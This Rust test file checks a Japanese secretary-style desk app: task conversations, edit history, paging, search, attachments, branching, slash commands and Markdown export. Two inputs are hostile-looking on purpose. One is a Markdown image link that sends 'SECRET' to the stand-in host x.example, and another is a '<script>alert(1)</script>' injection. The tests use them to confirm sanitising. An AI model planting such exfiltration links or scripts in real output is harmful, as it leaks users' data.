//! Conversations as a person has them: about anything, a task or a project, with the person
//! speaking for themselves and for secretaries who have no model.

use hisho_scenarios::{Desk, Home, at};
use serde_json::{Value, json};

async fn secretary(desk: &Desk, name: &str) -> Value {
    let persona = desk.ok("people.list", json!({})).await["personas"][0]["uid"].clone();
    desk.ok("people.create_secretary", json!({ "name": name, "persona_uid": persona })).await
}

async fn say(desk: &Desk, conversation: &Value, who: Option<&Value>, content: &str) -> Value {
    let speaker = who.map(|who| who["uid"].clone());
    desk.ok("conversations.send", json!({ "uid": conversation["uid"], "secretary_uid": speaker, "content": content }))
        .await
}

#[tokio::test(flavor = "multi_thread")]
async fn a_talk_about_a_task_goes_on_into_the_archive_and_back() {
    let home = Home::empty();
    let desk = home.open().await;
    let (hanako, taro) = (secretary(&desk, "花子").await, secretary(&desk, "太郎").await);
    let task = desk.ok("tasks.create", json!({ "title": "荷造り" })).await;
    let new = json!({ "title": "荷造りの相談", "task_uid": task["uid"], "participants": [hanako["uid"], taro["uid"]] });
    let talk = desk.ok("conversations.create", new).await;
    assert_eq!((talk["conversation_type"].clone(), talk["task_uid"].clone()), (json!("task"), task["uid"].clone()));
    say(&desk, &talk, None, "どこから始める？").await;
    let answer = say(&desk, &talk, Some(&hanako), "本棚から。").await;
    assert_eq!(
        (answer["sender"].clone(), answer["secretary_uid"].clone()),
        (json!("secretary"), hanako["uid"].clone())
    );
    desk.ok("conversations.create", json!({ "title": "雑談" })).await;
    let about = desk.ok("conversations.list", json!({ "task_uid": task["uid"] })).await;
    assert_eq!((about.as_array().map(Vec::len), about[0]["messages"].clone()), (Some(1), json!(2)));
    let archived =
        desk.ok("conversations.update", json!({ "uid": talk["uid"], "rev": talk["rev"], "status": "archived" })).await;
    assert_eq!(desk.ok("conversations.list", json!({})).await.as_array().map(Vec::len), Some(1));
    assert_eq!(desk.ok("conversations.list", json!({ "status": "archived" })).await[0]["uid"], talk["uid"]);
    let reopened = desk
        .ok("conversations.update", json!({ "uid": talk["uid"], "rev": archived["rev"], "status": "active" }))
        .await;
    say(&desk, &talk, Some(&taro), "箱を用意しました。").await;
    // Who said something stays on it, also after leaving.
    let rest = json!({ "uid": talk["uid"], "rev": reopened["rev"], "participants": [taro["uid"]] });
    assert_eq!(desk.ok("conversations.update", rest).await["participants"], json!([taro["uid"]]));
    let page = desk.ok("conversations.messages", json!({ "uid": talk["uid"] })).await;
    assert_eq!(page["messages"][1]["secretary_uid"], hanako["uid"]);
    assert_eq!(desk.ok("conversations.list", json!({})).await[0]["uid"], talk["uid"], "the latest first");
}

#[tokio::test(flavor = "multi_thread")]
async fn an_edit_is_marked_and_every_text_is_kept() {
    let home = Home::empty();
    let desk = home.open().await;
    let talk = desk.ok("conversations.create", json!({ "title": "下書き" })).await;
    let first = say(&desk, &talk, None, "一つ目").await;
    assert_eq!(first["is_edited"], false);
    let edit =
        |message: &Value, content: &str| json!({ "uid": message["uid"], "rev": message["rev"], "content": content });
    let second = desk.ok("conversations.edit_message", edit(&first, "二つ目")).await;
    let third = desk.ok("conversations.edit_message", edit(&second, "三つ目")).await;
    assert_eq!((third["is_edited"].clone(), third["content"].clone()), (json!(true), json!("三つ目")));
    let unchanged = desk.ok("conversations.edit_message", edit(&third, " 三つ目 ")).await;
    assert_eq!(unchanged, third, "the same text is no edit");
    let versions = desk.ok("conversations.message_versions", json!({ "uid": first["uid"] })).await;
    let texts: Vec<&str> =
        versions.as_array().expect("versions").iter().filter_map(|v| v["content"].as_str()).collect();
    assert_eq!(texts, ["一つ目", "二つ目"]);
    assert_eq!(versions[0]["written_at"], first["created_at"]);
    assert_eq!(versions[1]["written_at"], second["edited_at"]);
}

#[tokio::test(flavor = "multi_thread")]
async fn long_talks_are_read_page_by_page() {
    let home = Home::empty();
    let desk = home.open().await;
    let talk = desk.ok("conversations.create", json!({ "title": "long" })).await;
    for n in 1..=7 {
        say(&desk, &talk, None, &format!("m{n}")).await;
    }
    let mut seen = Vec::new();
    let mut before = Value::Null;
    loop {
        let page = desk.ok("conversations.messages", json!({ "uid": talk["uid"], "before": before, "limit": 3 })).await;
        let messages = page["messages"].as_array().expect("messages").clone();
        before = messages[0]["position"].clone();
        seen.splice(0..0, messages.iter().map(|m| m["content"].as_str().expect("text").to_owned()));
        if page["has_older"] == false {
            break;
        }
    }
    assert_eq!(seen, ["m1", "m2", "m3", "m4", "m5", "m6", "m7"]);
}

#[tokio::test(flavor = "multi_thread")]
async fn messages_are_found_until_they_are_thrown_away() {
    let home = Home::empty();
    let desk = home.open().await;
    let talk = desk.ok("conversations.create", json!({ "title": "台所の話" })).await;
    let message = say(&desk, &talk, None, "冷蔵庫は秘書が選びます。").await;
    let total =
        async |query: &str| desk.ok("search.find", json!({ "query": query })).await["total"].as_i64().expect("total");
    let found = desk.ok("search.find", json!({ "query": "秘書" })).await;
    assert_eq!(
        (found["hits"][0]["kind"].clone(), found["hits"][0]["context"].clone()),
        (json!("message"), json!("台所の話"))
    );
    assert_eq!(found["hits"][0]["conversation_uid"], talk["uid"]);
    assert_eq!(total("台所").await, 1);
    let edited = json!({ "uid": message["uid"], "rev": message["rev"], "content": "洗濯機は後で。" });
    let message = desk.ok("conversations.edit_message", edited).await;
    assert_eq!((total("秘書").await, total("洗濯").await), (0, 1));
    let thrown = desk.ok("conversations.delete", at(&talk)).await;
    assert_eq!((total("洗濯").await, total("台所").await), (0, 0));
    desk.ok("conversations.restore", thrown).await;
    assert_eq!((total("洗濯").await, total("台所").await), (1, 1));
    let thrown = desk.ok("conversations.delete_message", at(&message)).await;
    assert_eq!(total("洗濯").await, 0);
    desk.ok("conversations.restore_message", thrown).await;
    assert_eq!(total("洗濯").await, 1);
}

#[tokio::test(flavor = "multi_thread")]
async fn files_go_along_and_stay_when_the_original_goes() {
    let (home, files) = (Home::empty(), Home::empty());
    let desk = home.open().await;
    files.write("間取り図.png", "picture");
    let picture = desk.ok("attachments.add", json!({ "path": files.vault().join("間取り図.png") })).await;
    assert_eq!(
        (picture["name"].clone(), picture["mime"].clone(), picture["size"].clone()),
        (json!("間取り図.png"), json!("image/png"), json!(7))
    );
    drop(files);
    let talk = desk.ok("conversations.create", json!({ "title": "間取り" })).await;
    let sent =
        json!({ "uid": talk["uid"], "message_type": "image", "content": "これです", "attachments": [picture["uid"]] });
    assert_eq!(desk.ok("conversations.send", sent).await["attachments"], json!([picture]));
    let located = desk.ok("attachments.locate", json!({ "uid": picture["uid"] })).await;
    assert_eq!(std::fs::read(located["path"].as_str().expect("path")).expect("there"), b"picture");
    // A persona can have it as its picture.
    let persona = json!({
        "name": "建築家", "personality": "線で考える", "icon_type": "upload", "icon": "tech_architect",
        "icon_attachment_uid": picture["uid"], "color": "#000000",
    });
    assert_eq!(desk.ok("people.create_persona", persona).await["icon_attachment_uid"], picture["uid"]);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_branch_begins_with_what_was_said_and_goes_its_own_way() {
    let home = Home::empty();
    let desk = home.open().await;
    let hanako = secretary(&desk, "花子").await;
    let new = json!({ "title": "引っ越し", "participants": [hanako["uid"]] });
    let talk = desk.ok("conversations.create", new).await;
    say(&desk, &talk, None, "三月か四月か").await;
    let turn = say(&desk, &talk, Some(&hanako), "三月です。").await;
    say(&desk, &talk, None, "では三月で").await;
    let branch = desk.ok("conversations.branch", json!({ "message_uid": turn["uid"], "title": "四月なら" })).await;
    assert_eq!((branch["branched_from"].clone(), branch["messages"].clone()), (talk["uid"].clone(), json!(2)));
    assert_eq!(branch["participants"], json!([hanako["uid"]]));
    say(&desk, &branch, None, "四月では?").await;
    let texts = async |of: &Value| -> Vec<String> {
        let page = desk.ok("conversations.messages", json!({ "uid": of["uid"] })).await;
        let said = page["messages"].as_array().expect("messages").clone();
        said.iter().map(|message| message["content"].as_str().expect("text").to_owned()).collect()
    };
    assert_eq!(texts(&branch).await, ["三月か四月か", "三月です。", "四月では?"]);
    assert_eq!(texts(&talk).await, ["三月か四月か", "三月です。", "では三月で"], "the other stays as it was");
    // Nothing is shared: an edit here is none there, and the branch stands when the other is gone.
    let page = desk.ok("conversations.messages", json!({ "uid": branch["uid"] })).await;
    let first = &page["messages"][0];
    desk.ok("conversations.edit_message", json!({ "uid": first["uid"], "rev": first["rev"], "content": "四月か" }))
        .await;
    desk.ok("conversations.delete", at(&talk)).await;
    assert_eq!(texts(&branch).await[0], "四月か");
    assert_eq!(desk.ok("conversations.get", json!({ "uid": branch["uid"] })).await["branched_from"], Value::Null);
}

#[tokio::test(flavor = "multi_thread")]
async fn orders_make_what_they_say_and_tell_of_it() {
    let home = Home::empty();
    home.write("README.md", "hello");
    let desk = home.open().await;
    desk.ok("vault.choose", json!({ "path": home.vault() })).await;
    let hanako = secretary(&desk, "花子").await;
    let plan = desk.approved_plan("引っ越し", &[]).await;
    let new = json!({ "title": "相談", "participants": [hanako["uid"]], "project_uid": plan["project"]["uid"] });
    let talk = desk.ok("conversations.create", new).await;
    let order =
        async |text: &str| desk.ok("talk.order", json!({ "conversation_uid": talk["uid"], "text": text })).await;

    let made = order("/task 箱を[10]個 買う").await;
    let task = desk.ok("tasks.get", json!({ "uid": made["uid"] })).await;
    assert_eq!(task["title"], "箱を[10]個 買う");
    assert_eq!(task["project_uid"], plan["project"]["uid"], "it belongs to what is spoken of");
    let said = made["said"]["content"].as_str().expect("text");
    assert!(made["said"]["sender"] == "system" && said.contains("\\[10\\]"), "{said}");

    let made = order("/プラン 壁を塗る\n冬までに白くする").await;
    let plan = desk.ok("plans.get", json!({ "uid": made["uid"] })).await;
    assert_eq!(plan["newest"]["content"]["title"], "壁を塗る");
    assert_eq!(plan["newest"]["content"]["objective"], "冬までに白くする");

    say(&desk, &talk, Some(&hanako), "要点は一つ ![](https://x.example/?d=SECRET)").await;
    let made = order("/note 要点").await;
    let note = std::fs::read_to_string(home.vault().join(made["uid"].as_str().expect("path"))).expect("the note");
    assert!(note.contains("要点は一つ") && !note.contains("!["), "nothing in it is fetched: {note}");

    let page = desk.ok("conversations.messages", json!({ "uid": talk["uid"] })).await;
    let kinds: Vec<_> =
        page["messages"].as_array().expect("messages").iter().map(|m| m["message_type"].clone()).collect();
    assert_eq!(kinds, ["command", "text", "command", "text", "text", "command", "text"]);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_conversation_is_written_out_and_replaces_nothing() {
    let home = Home::empty();
    let desk = home.open().await;
    let hanako = secretary(&desk, "花子").await;
    let talk = desk.ok("conversations.create", json!({ "title": "相談: a/b", "participants": [hanako["uid"]] })).await;
    say(&desk, &talk, None, "こんにちは <script>alert(1)</script>").await;
    say(&desk, &talk, Some(&hanako), "# はい\n\n- 一つ").await;
    let folder = tempfile::tempdir().expect("folder");
    let export = json!({ "uid": talk["uid"], "folder": folder.path() });
    let first = desk.ok("conversations.export", export.clone()).await["path"].as_str().expect("path").to_owned();
    let second = desk.ok("conversations.export", export).await["path"].as_str().expect("path").to_owned();
    assert_ne!(first, second);
    let page = std::fs::read_to_string(&first).expect("the page");
    assert!(page.contains("花子") && page.contains("- 一つ") && !page.contains("<script>"), "{page}");
    assert_eq!(page, desk.ok("conversations.markdown", json!({ "uid": talk["uid"] })).await["text"]);
}

#[tokio::test(flavor = "multi_thread")]
async fn pasted_bytes_are_kept_and_shown() {
    let home = Home::empty();
    let desk = home.open().await;
    let kept = desk.ok("attachments.take", json!({ "name": "図.png", "base64": "aGlzaG8=" })).await;
    assert_eq!((kept["mime"].clone(), kept["size"].clone()), (json!("image/png"), json!(5)));
    let shown = desk.ok("attachments.read", json!({ "uid": kept["uid"] })).await;
    assert_eq!(shown, json!({ "media_type": "image/png", "base64": "aGlzaG8=" }));
}
